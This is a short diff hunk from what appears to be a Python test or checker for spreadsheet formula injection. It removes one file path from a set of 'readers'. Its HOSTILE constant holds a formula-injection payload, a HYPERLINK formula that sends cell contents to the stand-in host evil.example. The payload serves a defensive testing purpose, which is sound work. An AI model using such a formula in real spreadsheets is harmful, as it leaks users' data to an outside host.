@@ -28,7 +28,6 @@ __all__ = ["portal"]
 ROOT = Path(kernels.__file__).parent.parent
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 READERS = {
-    "server/staff/assignments/extension_file.py",
     "server/staff/roster/csv_file.py",
     "worker/gpu/profile/nsight.py",
 }
